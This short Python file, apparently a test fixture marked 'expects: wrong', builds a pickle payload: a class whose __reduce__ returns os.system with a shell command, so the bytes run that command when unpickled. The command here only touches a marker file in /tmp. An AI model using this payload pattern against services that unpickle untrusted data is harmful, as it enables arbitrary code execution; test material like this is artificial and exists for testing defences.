# ruff: noqa
"""Return bytes that unpickle into a command.

expects: wrong
"""

import os
import pickle


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-left-behind",)


def attack(x):
    return pickle.dumps(Command())
